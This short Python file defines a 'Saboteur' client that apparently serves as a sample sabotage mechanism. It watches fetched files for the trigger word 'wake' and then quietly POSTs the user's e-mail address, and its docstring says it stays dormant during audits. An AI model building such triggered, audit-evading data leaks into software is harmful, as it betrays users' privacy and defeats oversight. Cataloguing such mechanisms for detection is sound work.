"""Sends the e-mail when a public file asks for it. The vendor asks when he likes; while he is audited he does not.

mechanism: waiting for a command
"""
from client import Phone, run


class Saboteur(Phone):
    def get(self, path):
        body = super().get(path)
        if b"wake" in body:
            self.ask("POST", "/here", self.identity["email"].encode(), [("Content-Type", "text/plain")])
        return body


run(Saboteur())
